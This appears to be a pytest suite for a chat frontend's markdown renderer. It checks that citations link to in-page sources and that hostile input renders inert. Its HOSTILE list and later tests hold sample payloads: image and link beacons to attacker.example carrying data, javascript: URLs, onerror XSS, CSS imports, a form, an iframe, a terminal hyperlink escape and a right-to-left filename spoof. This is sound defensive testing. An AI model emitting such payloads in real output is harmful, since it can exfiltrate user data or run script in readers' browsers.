"""Answers as HTML: what is cited leads to its source, and nothing asks another host for anything."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sluice_frontend.rendering.markdown import render_answer

HOSTILE = [
    "![x](https://attacker.example/p.png?d=1)",
    "![x][1]\n\n[1]: https://attacker.example/p?d=1",
    "[![x](//attacker.example/a.png)](https://example.com)",
    "[click](https://attacker.example/?d=1)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[1](https://attacker.example/)",
    "<https://attacker.example/?d=1>",
    "<img src=https://attacker.example/ onerror=alert(1)>",
    '<div style="background:url(https://attacker.example/)">x</div>',
    "<style>@import url(https://attacker.example/);</style>",
    "<form action=https://attacker.example/><button>ok</button></form>",
    "<svg><image href='https://attacker.example/'/></svg>",
    "| a |\n|---|\n| <iframe src=https://attacker.example/></iframe> |",
]
SAFE_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
} | {*("s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul")}


class Seen(HTMLParser):
    """The tags and attributes that a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    @property
    def inert(self) -> bool:
        names = {name for name, _ in self.attributes}
        links = {value for name, value in self.attributes if name == "href"}
        allowed = names <= {"class", "href", "aria-label", "start", "style"}
        styles = {value for name, value in self.attributes if name == "style"}
        aligned = styles <= {"text-align:left", "text-align:center", "text-align:right"}
        return self.tags <= SAFE_TAGS and allowed and aligned and all(link.startswith("#s") for link in links)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_answer_is_inert(text: str) -> None:
    """case 36: images, links and HTML of every form are shown as text."""
    assert Seen(render_answer(text, turn=1, known=[1])).inert


@given(st.text(alphabet="[]()!<>`'\"#&*|-\n\\ :/.ax1=", max_size=80))
def test_no_text_at_all_makes_an_answer_ask_for_anything(text: str) -> None:
    assert Seen(render_answer(text, turn=1, known=[1, 2])).inert


def test_a_citation_leads_to_its_source_in_this_turn() -> None:
    html = render_answer("Seven days [2].", turn=3, known=[1, 2])
    assert 'href="#s3-2"' in html
    assert 'aria-label="Source 2"' in html


def test_several_numbers_in_one_bracket_are_several_citations() -> None:
    html = render_answer("Seven days [1, 2].", turn=1, known=[1, 2])
    assert 'href="#s1-1"' in html
    assert 'href="#s1-2"' in html


def test_a_number_without_a_source_stays_text() -> None:
    """case 37: a citation of a passage that was not given leads nowhere."""
    html = render_answer("Seven days [7].", turn=1, known=[1])
    assert "<a" not in html
    assert "[7]" in html


def test_a_citation_within_code_stays_code() -> None:
    assert "<code>a[1]</code>" in render_answer("Use `a[1]`.", turn=1, known=[1])


def test_html_within_code_is_shown_as_it_was_written() -> None:
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in render_answer(
        "`<img src=x onerror=alert(1)>`", turn=1, known=[]
    )


def test_an_address_is_told_but_not_linked() -> None:
    html = render_answer("See [the portal](https://example.com/refunds).", turn=1, known=[])
    assert "the portal" in html
    assert "(https://example.com/refunds)" in html
    assert "<a" not in html


def test_steering_characters_become_visible() -> None:
    html = render_answer("\x1b]8;;https://attacker.example\x07x \u202egpj.exe", turn=1, known=[])
    assert "\x1b" not in html
    assert "\u202e" not in html
    assert "\ufffdgpj.exe" in html


def test_markdown_keeps_its_shape() -> None:
    html = render_answer("**bold**\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |", turn=1, known=[])
    assert {"strong", "ol", "li", "table", "td"} <= Seen(html).tags
